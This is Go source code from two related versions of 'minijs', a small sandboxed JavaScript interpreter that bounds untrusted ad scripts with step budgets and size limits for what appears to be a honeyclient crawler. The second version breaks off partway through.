			return as >= bs
		}
	}
	an, bn := ToNumber(a), ToNumber(b)
	if math.IsNaN(an) || math.IsNaN(bn) {
		return false
	}
	switch op {
	case "<":
		return an < bn
	case ">":
		return an > bn
	case "<=":
		return an <= bn
	case ">=":
		return an >= bn
	}
	return false
}

func toInt32(v Value) int32 {
	n := ToNumber(v)
	if math.IsNaN(n) || math.IsInf(n, 0) {
		return 0
	}
	return int32(int64(n))
}

func toUint32(v Value) uint32 {
	n := ToNumber(v)
	if math.IsNaN(n) || math.IsInf(n, 0) {
		return 0
	}
	return uint32(int64(n))
}

func (in *Interp) evalAssign(x *AssignExpr, env *Env) (Value, error) {
	val, err := in.eval(x.Value, env)
	if err != nil {
		return Value{}, err
	}
	if x.Op != "=" {
		old, err := in.eval(x.Target, env)
		if err != nil {
			return Value{}, err
		}
		binOp := x.Op[:len(x.Op)-1] // "+=" -> "+"
		val, err = applyBinary(binOp, old, val, x.nodeLine())
		if err != nil {
			return Value{}, err
		}
	}
	if err := in.assignTo(x.Target, val, env); err != nil {
		return Value{}, err
	}
	return val, nil
}

func (in *Interp) assignTo(target Expr, val Value, env *Env) error {
	switch t := target.(type) {
	case *Ident:
		env.Assign(t.Name, val)
		return nil
	case *MemberExpr:
		objV, err := in.eval(t.Obj, env)
		if err != nil {
			return err
		}
		return in.setMemberValue(objV, t.Name, val, t.nodeLine())
	case *IndexExpr:
		objV, err := in.eval(t.Obj, env)
		if err != nil {
			return err
		}
		idxV, err := in.eval(t.Index, env)
		if err != nil {
			return err
		}
		return in.setIndexValue(objV, idxV, val, t.nodeLine())
	}
	return fmt.Errorf("minijs: invalid assignment target %T", target)
}

// setMemberValue stores obj.name = val; shared by the tree-walker's
// assignTo and the VM's opSetMember so error values stay identical.
func (in *Interp) setMemberValue(objV Value, name string, val Value, line int) error {
	obj := objV.Obj()
	if obj == nil {
		return throwStr("TypeError: cannot set property "+name+" of non-object", line)
	}
	obj.Set(name, val)
	return nil
}

// setIndexValue stores obj[idx] = val; shared by assignTo and opSetIndex.
func (in *Interp) setIndexValue(objV, idxV, val Value, line int) error {
	obj := objV.Obj()
	if obj == nil {
		return throwStr("TypeError: cannot index non-object", line)
	}
	if obj.IsArray {
		if idx, ok := arrayIndex(idxV); ok && idx >= 0 {
			if idx >= maxArrayLen {
				return throwStr("RangeError: invalid array length", line)
			}
			for len(obj.Elems) <= idx {
				obj.Elems = append(obj.Elems, Undefined())
			}
			obj.Elems[idx] = val
			return nil
		}
	}
	obj.Set(ToString(idxV), val)
	return nil
}

func (in *Interp) evalCall(x *CallExpr, env *Env) (Value, error) {
	this := Undefined()
	var fnV Value
	var err error

	switch callee := x.Callee.(type) {
	case *MemberExpr:
		this, err = in.eval(callee.Obj, env)
		if err != nil {
			return Value{}, err
		}
		fnV, err = in.getMember(this, callee.Name, callee.nodeLine())
		if err != nil {
			return Value{}, err
		}
	case *IndexExpr:
		this, err = in.eval(callee.Obj, env)
		if err != nil {
			return Value{}, err
		}
		idx, err2 := in.eval(callee.Index, env)
		if err2 != nil {
			return Value{}, err2
		}
		fnV, err = in.getIndex(this, idx, callee.nodeLine())
		if err != nil {
			return Value{}, err
		}
	default:
		fnV, err = in.eval(x.Callee, env)
		if err != nil {
			return Value{}, err
		}
	}

	var args []Value
	if len(x.Args) > 0 {
		args = make([]Value, len(x.Args))
		for i, a := range x.Args {
			args[i], err = in.eval(a, env)
			if err != nil {
				return Value{}, err
			}
		}
	}

	fn := fnV.Obj()
	if fn == nil || !fn.IsFunction() {
		return Value{}, throwStr("TypeError: "+calleeName(x.Callee)+" is not a function", x.nodeLine())
	}
	return in.callObject(fn, this, args, x.nodeLine())
}

func calleeName(e Expr) string {
	switch c := e.(type) {
	case *Ident:
		return c.Name
	case *MemberExpr:
		return calleeName(c.Obj) + "." + c.Name
	default:
		return "expression"
	}
}

func (in *Interp) callObject(fn *Object, this Value, args []Value, line int) (Value, error) {
	if in.depth >= in.MaxDepth {
		return Value{}, throwStr("RangeError: maximum call depth exceeded", line)
	}
	in.depth++
	defer func() { in.depth-- }()

	if fn.Native != nil {
		return fn.Native(in, this, args)
	}
	callEnv := NewEnv(fn.Env)
	callEnv.Define("this", this)
	if fn.Fn.UsesArguments {
		// Copy args: the VM hands out slices of its reusable call arena, so
		// anything that outlives the call must own its backing array.
		argsArr := in.NewArray(append([]Value(nil), args...)...)
		callEnv.Define("arguments", argsArr.Value())
	}
	for i, p := range fn.Fn.Params {
		if i < len(args) {
			callEnv.Define(p, args[i])
		} else {
			callEnv.Define(p, Undefined())
		}
	}
	if in.UseVM && fn.Fn.code != nil {
		_, acquired := in.ensureMachine()
		v, c, err := in.runChunk(fn.Fn.code, callEnv)
		if acquired {
			in.releaseMachine()
		}
		if err != nil {
			return Value{}, err
		}
		if c == ctlReturn {
			return v, nil
		}
		return Undefined(), nil
	}
	v, c, err := in.execBlock(fn.Fn.Body, callEnv)
	if err != nil {
		return Value{}, err
	}
	if c == ctlReturn {
		return v, nil
	}
	return Undefined(), nil
}

func (in *Interp) evalNew(x *NewExpr, env *Env) (Value, error) {
	fnV, err := in.eval(x.Callee, env)
	if err != nil {
		return Value{}, err
	}
	// Arguments are evaluated before the constructor check (ES EvaluateNew
	// order) — the VM necessarily does the same, and step parity between the
	// engines depends on it.
	var args []Value
	if len(x.Args) > 0 {
		args = make([]Value, len(x.Args))
		for i, a := range x.Args {
			args[i], err = in.eval(a, env)
			if err != nil {
				return Value{}, err
			}
		}
	}
	fn := fnV.Obj()
	if fn == nil || !fn.IsFunction() {
		return Value{}, throwStr("TypeError: not a constructor", x.nodeLine())
	}
	this := in.NewObject()
	ret, err := in.callObject(fn, this.Value(), args, x.nodeLine())
	if err != nil {
		return Value{}, err
	}
	// If the constructor returned an object, that wins; otherwise `this`.
	if obj := ret.Obj(); obj != nil {
		return obj.Value(), nil
	}
	return this.Value(), nil
}

// getMember resolves obj.name including primitive methods on strings,
// numbers, and arrays.
func (in *Interp) getMember(objV Value, name string, line int) (Value, error) {
	switch objV.kind {
	case KindString:
		return stringMember(objV.str, name), nil
	case KindNumber:
		return numberMember(objV.num, name), nil
	case KindObject:
		o := objV.obj
		if o.IsArray {
			if m := arrayMember(name); m != nil {
				return m.Value(), nil
			}
		}
		v, _ := o.Get(name)
		return v, nil
	case KindEmpty, KindUndefined, KindNull:
		return Value{}, throwStr("TypeError: cannot read property '"+name+"' of "+ToString(objV), line)
	}
	return Undefined(), nil
}

func (in *Interp) getIndex(objV Value, idx Value, line int) (Value, error) {
	switch objV.kind {
	case KindString:
		o := objV.str
		if idx.kind == KindNumber {
			n := int(idx.num)
			if n >= 0 && n < len(o) {
				return Str(o[n : n+1]), nil
			}
			return Undefined(), nil
		}
		return stringMember(o, ToString(idx)), nil
	case KindObject:
		o := objV.obj
		if o.IsArray {
			if n, ok := arrayIndex(idx); ok {
				if n >= 0 && n < len(o.Elems) {
					return o.Elems[n], nil
				}
				return Undefined(), nil
			}
			if m := arrayMember(ToString(idx)); m != nil {
				return m.Value(), nil
			}
		}
		return in.getMember(objV, ToString(idx), line)
	case KindEmpty, KindUndefined, KindNull:
		return Value{}, throwStr("TypeError: cannot index "+ToString(objV), line)
	}
	return Undefined(), nil
}

// arrayIndex interprets v as an integer array index. Numeric strings count,
// because for-in yields string keys ("0", "1", ...) that scripts use to
// index back into the array.
func arrayIndex(v Value) (int, bool) {
	switch v.kind {
	case KindNumber:
		if v.num == math.Trunc(v.num) && !math.IsInf(v.num, 0) {
			return int(v.num), true
		}
	case KindString:
		x := v.str
		if x == "" {
			return 0, false
		}
		n := 0
		for i := 0; i < len(x); i++ {
			if x[i] < '0' || x[i] > '9' {
				return 0, false
			}
			n = n*10 + int(x[i]-'0')
			if n > 1<<30 {
				return 0, false
			}
		}
		return n, true
	}
	return 0, false
}

// parseIntValue implements parseInt semantics for builtins.go.
func parseIntValue(s string, radix int) float64 {
	s = trimLeadingSpace(s)
	sign := 1.0
	if len(s) > 0 && (s[0] == '+' || s[0] == '-') {
		if s[0] == '-' {
			sign = -1
		}
		s = s[1:]
	}
	if radix == 0 {
		if len(s) > 1 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X') {
			radix = 16
			s = s[2:]
		} else {
			radix = 10
		}
	} else if radix == 16 && len(s) > 1 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X') {
		s = s[2:]
	}
	end := 0
	for end < len(s) && digitVal(s[end]) >= 0 && digitVal(s[end]) < radix {
		end++
	}
	if end == 0 {
		return math.NaN()
	}
	n, err := strconv.ParseInt(s[:end], radix, 64)
	if err != nil {
		// Overflow: fall back to float accumulation.
		f := 0.0
		for i := 0; i < end; i++ {
			f = f*float64(radix) + float64(digitVal(s[i]))
		}
		return sign * f
	}
	return sign * float64(n)
}

func digitVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'z':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		return int(c-'A') + 10
	}
	return -1
}

func trimLeadingSpace(s string) string {
	for len(s) > 0 && (s[0] == ' ' || s[0] == '\t' || s[0] == '\n' || s[0] == '\r') {
		s = s[1:]
	}
	return s
}
