package minijs

import (
	"context"
	"errors"
	"fmt"
	"math"
	"strconv"
)

// ErrBudget is returned when a script exceeds its step budget. The crawler
// treats a budget hit as "script did not terminate" — exactly how a real
// honeyclient bounds adversarial ads.
var ErrBudget = errors.New("minijs: step budget exhausted")

// maxArrayLen bounds dense array growth and Array(n) allocation. The step
// budget bounds how many statements run, but a single a[1e9] = 1 would
// allocate gigabytes in one step; past this bound the interpreter throws a
// catchable RangeError instead.
const maxArrayLen = 1 << 20

// maxStringLen bounds string concatenation results. Repeated s = s + s
// doubles per iteration, so a handful of budget steps could otherwise
// allocate an arbitrarily large string (real engines throw RangeError
// "Invalid string length" the same way, just at a higher bound).
const maxStringLen = 1 << 24

// ThrowError wraps a value thrown by script code (throw statement or a
// runtime TypeError the interpreter raises).
type ThrowError struct {
	Value Value
	Line  int
}

func (e *ThrowError) Error() string {
	return fmt.Sprintf("minijs: uncaught exception at line %d: %s", e.Line, ToString(e.Value))
}

// Env is a lexical scope: a map of bindings with a pointer to the enclosing
// scope.
type Env struct {
	vars   map[string]Value
	parent *Env
}

// NewEnv returns a scope nested in parent (parent may be nil for globals).
func NewEnv(parent *Env) *Env {
	return &Env{vars: map[string]Value{}, parent: parent}
}

// Lookup finds name in this scope chain.
func (e *Env) Lookup(name string) (Value, bool) {
	for s := e; s != nil; s = s.parent {
		if v, ok := s.vars[name]; ok {
			return v, true
		}
	}
	return Undefined{}, false
}

// Define creates or overwrites name in this exact scope.
func (e *Env) Define(name string, v Value) { e.vars[name] = v }

// Assign sets name in the nearest scope that defines it; if none does, the
// value lands in the global (outermost) scope — JavaScript's implicit-global
// behaviour, which obfuscated ad scripts rely on.
func (e *Env) Assign(name string, v Value) {
	for s := e; s != nil; s = s.parent {
		if _, ok := s.vars[name]; ok {
			s.vars[name] = v
			return
		}
		if s.parent == nil {
			s.vars[name] = v
			return
		}
	}
}

// Interp executes parsed programs. One Interp corresponds to one page's
// script execution context in the emulated browser.
type Interp struct {
	// Global is the global scope. Host bindings (document, window, ...) are
	// Defined here by the embedder before Run.
	Global *Env
	// Budget is the remaining statement/expression step allowance.
	Budget int
	// MaxDepth bounds recursion (call depth).
	MaxDepth int
	depth    int
	// UseVM selects the bytecode VM over the tree-walker. Programs without
	// compiled code (and functions created by a tree-walk) still run on the
	// tree-walker; the two engines agree exactly (see FuzzCompileEval).
	UseVM bool
	// vm is the active pooled machine while a VM execution is in flight.
	vm *machine
}

// DefaultBudget is the per-execution step allowance. Ads in the simulation
// run well under this; runaway loops hit it quickly.
const DefaultBudget = 2_000_000

// New returns an interpreter with a fresh global scope, the default budget,
// and standard builtins (Math, String, parseInt, ...) installed.
func New() *Interp {
	in := &Interp{Global: NewEnv(nil), Budget: DefaultBudget, MaxDepth: 200, UseVM: true}
	installBuiltins(in)
	return in
}

// Run parses and executes src in the global scope.
func (in *Interp) Run(src string) (Value, error) {
	prog, err := Parse(src)
	if err != nil {
		return Undefined{}, err
	}
	return in.RunProgram(prog)
}

// RunProgram executes an already-parsed program in the global scope.
func (in *Interp) RunProgram(prog *Program) (Value, error) {
	if in.UseVM {
		if prog.code == nil {
			// Compile on demand (eval, embedders without a code cache). A
			// compile failure falls back to the tree-walker.
			_ = CompileProgram(context.Background(), prog)
		}
		if prog.code != nil {
			return in.runProgramVM(prog)
		}
	}
	var last Value = Undefined{}
	// Hoist function declarations, as JS does.
	for _, s := range prog.Body {
		if fd, ok := s.(*FuncDecl); ok {
			in.Global.Define(fd.Name, in.makeFunction(fd.Fn, in.Global))
		}
	}
	for _, s := range prog.Body {
		v, ctl, err := in.execStmt(s, in.Global)
		if err != nil {
			return Undefined{}, err
		}
		if ctl != ctlNone {
			// return/break/continue at top level: stop quietly.
			return last, nil
		}
		if v != nil {
			last = v
		}
	}
	return last, nil
}

// CallFunction invokes a script function value from Go, e.g. the browser
// firing a setTimeout callback or an onclick handler.
func (in *Interp) CallFunction(fn Value, this Value, args []Value) (Value, error) {
	obj, ok := fn.(*Object)
	if !ok || !obj.IsFunction() {
		return Undefined{}, &ThrowError{Value: "TypeError: not a function"}
	}
	return in.callObject(obj, this, args, 0)
}

// control-flow signals threaded through statement execution.
type ctl int

const (
	ctlNone ctl = iota
	ctlReturn
	ctlBreak
	ctlContinue
)

func (in *Interp) step(line int) error {
	in.Budget--
	if in.Budget < 0 {
		return ErrBudget
	}
	_ = line
	return nil
}

// execStmt executes a statement. The Value return is the statement's
// completion value (used for return statements and top-level expressions).
func (in *Interp) execStmt(s Stmt, env *Env) (Value, ctl, error) {
	if err := in.step(s.nodeLine()); err != nil {
		return nil, ctlNone, err
	}
	switch st := s.(type) {
	case *EmptyStmt:
		return nil, ctlNone, nil

	case *VarDecl:
		for i, name := range st.Names {
			var v Value = Undefined{}
			if st.Inits[i] != nil {
				var err error
				v, err = in.eval(st.Inits[i], env)
				if err != nil {
					return nil, ctlNone, err
				}
			}
			env.Define(name, v)
		}
		return nil, ctlNone, nil

	case *FuncDecl:
		env.Define(st.Name, in.makeFunction(st.Fn, env))
		return nil, ctlNone, nil

	case *ExprStmt:
		v, err := in.eval(st.X, env)
		return v, ctlNone, err

	case *BlockStmt:
		return in.execBlock(st, env)

	case *IfStmt:
		cond, err := in.eval(st.Cond, env)
		if err != nil {
			return nil, ctlNone, err
		}
		if Truthy(cond) {
			return in.execStmt(st.Then, env)
		}
		if st.Else != nil {
			return in.execStmt(st.Else, env)
		}
		return nil, ctlNone, nil

	case *WhileStmt:
		for {
			cond, err := in.eval(st.Cond, env)
			if err != nil {
				return nil, ctlNone, err
			}
			if !Truthy(cond) {
				return nil, ctlNone, nil
			}
			v, c, err := in.execStmt(st.Body, env)
			if err != nil {
				return nil, ctlNone, err
			}
			switch c {
			case ctlBreak:
				return nil, ctlNone, nil
			case ctlReturn:
				return v, ctlReturn, nil
			}
		}

	case *DoWhileStmt:
		for {
			v, c, err := in.execStmt(st.Body, env)
			if err != nil {
				return nil, ctlNone, err
			}
			switch c {
			case ctlBreak:
				return nil, ctlNone, nil
			case ctlReturn:
				return v, ctlReturn, nil
			}
			cond, err := in.eval(st.Cond, env)
			if err != nil {
				return nil, ctlNone, err
			}
			if !Truthy(cond) {
				return nil, ctlNone, nil
			}
		}

	case *ForStmt:
		loopEnv := NewEnv(env)
		if st.Init != nil {
			if _, _, err := in.execStmt(st.Init, loopEnv); err != nil {
				return nil, ctlNone, err
			}
		}
		for {
			if st.Cond != nil {
				cond, err := in.eval(st.Cond, loopEnv)
				if err != nil {
					return nil, ctlNone, err
				}
				if !Truthy(cond) {
					return nil, ctlNone, nil
				}
			}
			v, c, err := in.execStmt(st.Body, loopEnv)
			if err != nil {
				return nil, ctlNone, err
			}
			if c == ctlBreak {
				return nil, ctlNone, nil
			}
			if c == ctlReturn {
				return v, ctlReturn, nil
			}
			if st.Post != nil {
				if _, err := in.eval(st.Post, loopEnv); err != nil {
					return nil, ctlNone, err
				}
			}
		}

	case *ForInStmt:
		objV, err := in.eval(st.Obj, env)
		if err != nil {
			return nil, ctlNone, err
		}
		obj, ok := objV.(*Object)
		if !ok {
			return nil, ctlNone, nil // for-in over non-object iterates nothing
		}
		loopEnv := NewEnv(env)
		if st.Decl {
			loopEnv.Define(st.VarName, Undefined{})
		}
		for _, key := range obj.Keys() {
			if st.Decl {
				loopEnv.Define(st.VarName, key)
			} else {
				loopEnv.Assign(st.VarName, key)
			}
			v, c, err := in.execStmt(st.Body, loopEnv)
			if err != nil {
				return nil, ctlNone, err
			}
			if c == ctlBreak {
				return nil, ctlNone, nil
			}
			if c == ctlReturn {
				return v, ctlReturn, nil
			}
		}
		return nil, ctlNone, nil

	case *ReturnStmt:
		var v Value = Undefined{}
		if st.Value != nil {
			var err error
			v, err = in.eval(st.Value, env)
			if err != nil {
				return nil, ctlNone, err
			}
		}
		return v, ctlReturn, nil

	case *BreakStmt:
		return nil, ctlBreak, nil

	case *ContinueStmt:
		return nil, ctlContinue, nil

	case *ThrowStmt:
		v, err := in.eval(st.Value, env)
		if err != nil {
			return nil, ctlNone, err
		}
		return nil, ctlNone, &ThrowError{Value: v, Line: st.nodeLine()}

	case *SwitchStmt:
		tag, err := in.eval(st.Tag, env)
		if err != nil {
			return nil, ctlNone, err
		}
		// Find the matching clause (or default), then execute from there,
		// falling through until a break.
		start := -1
		defaultIdx := -1
		for i, c := range st.Cases {
			if c.Test == nil {
				defaultIdx = i
				continue
			}
			tv, err := in.eval(c.Test, env)
			if err != nil {
				return nil, ctlNone, err
			}
			if StrictEquals(tag, tv) {
				start = i
				break
			}
		}
		if start < 0 {
			start = defaultIdx
		}
		if start < 0 {
			return nil, ctlNone, nil
		}
		switchEnv := NewEnv(env)
		for i := start; i < len(st.Cases); i++ {
			for _, s2 := range st.Cases[i].Body {
				v, c, err := in.execStmt(s2, switchEnv)
				if err != nil {
					return nil, ctlNone, err
				}
				switch c {
				case ctlBreak:
					return nil, ctlNone, nil
				case ctlReturn, ctlContinue:
					return v, c, nil
				}
			}
		}
		return nil, ctlNone, nil

	case *TryStmt:
		v, c, err := in.execBlock(st.Body, env)
		var throwErr *ThrowError
		if err != nil && errors.As(err, &throwErr) && st.Catch != nil {
			catchEnv := NewEnv(env)
			catchEnv.Define(st.CatchName, throwErr.Value)
			v, c, err = in.execBlock(st.Catch, catchEnv)
		}
		if st.Finally != nil {
			fv, fc, ferr := in.execBlock(st.Finally, env)
			if ferr != nil {
				return nil, ctlNone, ferr
			}
			if fc != ctlNone {
				return fv, fc, nil
			}
		}
		return v, c, err
	}
	return nil, ctlNone, fmt.Errorf("minijs: unknown statement %T", s)
}

func (in *Interp) execBlock(b *BlockStmt, env *Env) (Value, ctl, error) {
	blockEnv := NewEnv(env)
	// Hoist function declarations within the block.
	for _, s := range b.Body {
		if fd, ok := s.(*FuncDecl); ok {
			blockEnv.Define(fd.Name, in.makeFunction(fd.Fn, blockEnv))
		}
	}
	for _, s := range b.Body {
		v, c, err := in.execStmt(s, blockEnv)
		if err != nil {
			return nil, ctlNone, err
		}
		if c != ctlNone {
			return v, c, nil
		}
	}
	return nil, ctlNone, nil
}

func (in *Interp) makeFunction(fn *FuncLit, env *Env) *Object {
	return &Object{Props: map[string]Value{}, Fn: fn, Env: env, Name: fn.Name}
}

// eval evaluates an expression.
func (in *Interp) eval(e Expr, env *Env) (Value, error) {
	if err := in.step(e.nodeLine()); err != nil {
		return nil, err
	}
	switch x := e.(type) {
	case *NumberLit:
		return x.Value, nil
	case *StringLit:
		return x.Value, nil
	case *BoolLit:
		return x.Value, nil
	case *NullLit:
		return Null{}, nil
	case *UndefinedLit:
		return Undefined{}, nil
	case *ThisExpr:
		if v, ok := env.Lookup("this"); ok {
			return v, nil
		}
		return Undefined{}, nil
	case *Ident:
		if v, ok := env.Lookup(x.Name); ok {
			return v, nil
		}
		return nil, &ThrowError{Value: "ReferenceError: " + x.Name + " is not defined", Line: x.nodeLine()}

	case *ArrayLit:
		arr := NewArray()
		for _, el := range x.Elems {
			v, err := in.eval(el, env)
			if err != nil {
				return nil, err
			}
			arr.Elems = append(arr.Elems, v)
		}
		return arr, nil

	case *ObjectLit:
		obj := NewObject()
		for i, k := range x.Keys {
			v, err := in.eval(x.Values[i], env)
			if err != nil {
				return nil, err
			}
			obj.Props[k] = v
		}
		return obj, nil

	case *FuncLit:
		return in.makeFunction(x, env), nil

	case *RegexLit:
		return newRegexObject(x), nil

	case *UnaryExpr:
		return in.evalUnary(x, env)

	case *UpdateExpr:
		return in.evalUpdate(x, env)

	case *BinaryExpr:
		return in.evalBinary(x, env)

	case *LogicalExpr:
		left, err := in.eval(x.X, env)
		if err != nil {
			return nil, err
		}
		if x.Op == "&&" {
			if !Truthy(left) {
				return left, nil
			}
			return in.eval(x.Y, env)
		}
		if Truthy(left) {
			return left, nil
		}
		return in.eval(x.Y, env)

	case *CondExpr:
		cond, err := in.eval(x.Cond, env)
		if err != nil {
			return nil, err
		}
		if Truthy(cond) {
			return in.eval(x.Then, env)
		}
		return in.eval(x.Else, env)

	case *AssignExpr:
		return in.evalAssign(x, env)

	case *CallExpr:
		return in.evalCall(x, env)

	case *NewExpr:
		return in.evalNew(x, env)

	case *MemberExpr:
		obj, err := in.eval(x.Obj, env)
		if err != nil {
			return nil, err
		}
		return in.getMember(obj, x.Name, x.nodeLine())

	case *IndexExpr:
		obj, err := in.eval(x.Obj, env)
		if err != nil {
			return nil, err
		}
		idx, err := in.eval(x.Index, env)
		if err != nil {
			return nil, err
		}
		return in.getIndex(obj, idx, x.nodeLine())
	}
	return nil, fmt.Errorf("minijs: unknown expression %T", e)
}

func (in *Interp) evalUnary(x *UnaryExpr, env *Env) (Value, error) {
	if x.Op == "typeof" {
		// typeof tolerates undefined identifiers.
		if id, ok := x.X.(*Ident); ok {
			if v, found := env.Lookup(id.Name); found {
				return TypeOf(v), nil
			}
			return "undefined", nil
		}
	}
	if x.Op == "delete" {
		if m, ok := x.X.(*MemberExpr); ok {
			objV, err := in.eval(m.Obj, env)
			if err != nil {
				return nil, err
			}
			if obj, ok := objV.(*Object); ok && obj.Props != nil {
				delete(obj.Props, m.Name)
			}
			return true, nil
		}
		return true, nil
	}
	v, err := in.eval(x.X, env)
	if err != nil {
		return nil, err
	}
	switch x.Op {
	case "-":
		return -ToNumber(v), nil
	case "+":
		return ToNumber(v), nil
	case "!":
		return !Truthy(v), nil
	case "~":
		return float64(^toInt32(v)), nil
	case "typeof":
		return TypeOf(v), nil
	}
	return nil, fmt.Errorf("minijs: unknown unary op %q", x.Op)
}

func (in *Interp) evalUpdate(x *UpdateExpr, env *Env) (Value, error) {
	old, err := in.eval(x.X, env)
	if err != nil {
		return nil, err
	}
	n := ToNumber(old)
	var next float64
	if x.Op == "++" {
		next = n + 1
	} else {
		next = n - 1
	}
	if err := in.assignTo(x.X, next, env); err != nil {
		return nil, err
	}
	if x.Prefix {
		return next, nil
	}
	return n, nil
}

func (in *Interp) evalBinary(x *BinaryExpr, env *Env) (Value, error) {
	a, err := in.eval(x.X, env)
	if err != nil {
		return nil, err
	}
	b, err := in.eval(x.Y, env)
	if err != nil {
		return nil, err
	}
	return applyBinary(x.Op, a, b, x.nodeLine())
}

func applyBinary(op string, a, b Value, line int) (Value, error) {
	switch op {
	case "+":
		// String concatenation if either side is a string or a non-array
		// object (which stringifies).
		if isStringy(a) || isStringy(b) {
			sa, sb := ToString(a), ToString(b)
			if len(sa)+len(sb) > maxStringLen {
				return nil, &ThrowError{Value: "RangeError: invalid string length", Line: line}
			}
			return sa + sb, nil
		}
		return ToNumber(a) + ToNumber(b), nil
	case "-":
		return ToNumber(a) - ToNumber(b), nil
	case "*":
		return ToNumber(a) * ToNumber(b), nil
	case "/":
		return ToNumber(a) / ToNumber(b), nil
	case "%":
		return math.Mod(ToNumber(a), ToNumber(b)), nil
	case "==":
		return LooseEquals(a, b), nil
	case "!=":
		return !LooseEquals(a, b), nil
	case "===":
		return StrictEquals(a, b), nil
	case "!==":
		return !StrictEquals(a, b), nil
	case "<", ">", "<=", ">=":
		return compare(op, a, b), nil
	case "&":
		return float64(toInt32(a) & toInt32(b)), nil
	case "|":
		return float64(toInt32(a) | toInt32(b)), nil
	case "^":
		return float64(toInt32(a) ^ toInt32(b)), nil
	case "<<":
		return float64(toInt32(a) << (toUint32(b) & 31)), nil
	case ">>":
		return float64(toInt32(a) >> (toUint32(b) & 31)), nil
	case ">>>":
		return float64(toUint32(a) >> (toUint32(b) & 31)), nil
	case "in":
		obj, ok := b.(*Object)
		if !ok {
			return nil, &ThrowError{Value: "TypeError: 'in' on non-object", Line: line}
		}
		_, found := obj.Get(ToString(a))
		return found, nil
	case "instanceof":
		// The dialect has no prototype chains; instanceof is a pragmatic
		// check: array instanceof Array, function instanceof Function.
		obj, ok := a.(*Object)
		if !ok {
			return false, nil
		}
		name := ""
		if fb, ok := b.(*Object); ok {
			name = fb.Name
		}
		switch name {
		case "Array":
			return obj.IsArray, nil
		case "Function":
			return obj.IsFunction(), nil
		}
		return false, nil
	}
	return nil, fmt.Errorf("minijs: unknown binary op %q", op)
}

func isStringy(v Value) bool {
	switch x := v.(type) {
	case string:
		return true
	case *Object:
		return !x.IsFunction() // objects and arrays concatenate as strings with +
	}
	return false
}

func compare(op string, a, b Value) bool {
	as, aIsStr := a.(string)
	bs, bIsStr := b.(string)
	if aIsStr && bIsStr {
		switch op {
		case "<":
			return as < bs
		case ">":
			return as > bs
		case "<=":
			return as <= bs
		case ">=":
			return as >= bs
		}
	}
	an, bn := ToNumber(a), ToNumber(b)
	if math.IsNaN(an) || math.IsNaN(bn) {
		return false
	}
	switch op {
	case "<":
		return an < bn
	case ">":
		return an > bn
	case "<=":
		return an <= bn
	case ">=":
		return an >= bn
	}
	return false
}

func toInt32(v Value) int32 {
	n := ToNumber(v)
	if math.IsNaN(n) || math.IsInf(n, 0) {
		return 0
	}
	return int32(int64(n))
}

func toUint32(v Value) uint32 {
	n := ToNumber(v)
	if math.IsNaN(n) || math.IsInf(n, 0) {
		return 0
	}
	return uint32(int64(n))
}

func (in *Interp) evalAssign(x *AssignExpr, env *Env) (Value, error) {
	val, err := in.eval(x.Value, env)
	if err != nil {
		return nil, err
	}
	if x.Op != "=" {
		old, err := in.eval(x.Target, env)
		if err != nil {
			return nil, err
		}
		binOp := x.Op[:len(x.Op)-1] // "+=" -> "+"
		val, err = applyBinary(binOp, old, val, x.nodeLine())
		if err != nil {
			return nil, err
		}
	}
	if err := in.assignTo(x.Target, val, env); err != nil {
		return nil, err
	}
	return val, nil
}

func (in *Interp) assignTo(target Expr, val Value, env *Env) error {
	switch t := target.(type) {
	case *Ident:
		env.Assign(t.Name, val)
		return nil
	case *MemberExpr:
		objV, err := in.eval(t.Obj, env)
		if err != nil {
			return err
		}
		return in.setMemberValue(objV, t.Name, val, t.nodeLine())
	case *IndexExpr:
		objV, err := in.eval(t.Obj, env)
		if err != nil {
			return err
		}
		idxV, err := in.eval(t.Index, env)
		if err != nil {
			return err
		}
		return in.setIndexValue(objV, idxV, val, t.nodeLine())
	}
	return fmt.Errorf("minijs: invalid assignment target %T", target)
}

// setMemberValue stores obj.name = val; shared by the tree-walker's
// assignTo and the VM's opSetMember so error values stay identical.
func (in *Interp) setMemberValue(objV Value, name string, val Value, line int) error {
	obj, ok := objV.(*Object)
	if !ok {
		return &ThrowError{Value: "TypeError: cannot set property " + name + " of non-object", Line: line}
	}
	obj.Set(name, val)
	return nil
}

// setIndexValue stores obj[idx] = val; shared by assignTo and opSetIndex.
func (in *Interp) setIndexValue(objV, idxV, val Value, line int) error {
	obj, ok := objV.(*Object)
	if !ok {
		return &ThrowError{Value: "TypeError: cannot index non-object", Line: line}
	}
	if obj.IsArray {
		if idx, ok := arrayIndex(idxV); ok && idx >= 0 {
			if idx >= maxArrayLen {
				return &ThrowError{Value: "RangeError: invalid array length", Line: line}
			}
			for len(obj.Elems) <= idx {
				obj.Elems = append(obj.Elems, Undefined{})
			}
			obj.Elems[idx] = val
			return nil
		}
	}
	obj.Set(ToString(idxV), val)
	return nil
}

func (in *Interp) evalCall(x *CallExpr, env *Env) (Value, error) {
	var this Value = Undefined{}
	var fnV Value
	var err error

	switch callee := x.Callee.(type) {
	case *MemberExpr:
		this, err = in.eval(callee.Obj, env)
		if err != nil {
			return nil, err
		}
		fnV, err = in.getMember(this, callee.Name, callee.nodeLine())
		if err != nil {
			return nil, err
		}
	case *IndexExpr:
		this, err = in.eval(callee.Obj, env)
		if err != nil {
			return nil, err
		}
		idx, err2 := in.eval(callee.Index, env)
		if err2 != nil {
			return nil, err2
		}
		fnV, err = in.getIndex(this, idx, callee.nodeLine())
		if err != nil {
			return nil, err
		}
	default:
		fnV, err = in.eval(x.Callee, env)
		if err != nil {
			return nil, err
		}
	}

	args := make([]Value, len(x.Args))
	for i, a := range x.Args {
		args[i], err = in.eval(a, env)
		if err != nil {
			return nil, err
		}
	}

	fn, ok := fnV.(*Object)
	if !ok || !fn.IsFunction() {
		return nil, &ThrowError{Value: "TypeError: " + calleeName(x.Callee) + " is not a function", Line: x.nodeLine()}
	}
	return in.callObject(fn, this, args, x.nodeLine())
}

func calleeName(e Expr) string {
	switch c := e.(type) {
	case *Ident:
		return c.Name
	case *MemberExpr:
		return calleeName(c.Obj) + "." + c.Name
	default:
		return "expression"
	}
}

func (in *Interp) callObject(fn *Object, this Value, args []Value, line int) (Value, error) {
	if in.depth >= in.MaxDepth {
		return nil, &ThrowError{Value: "RangeError: maximum call depth exceeded", Line: line}
	}
	in.depth++
	defer func() { in.depth-- }()

	if fn.Native != nil {
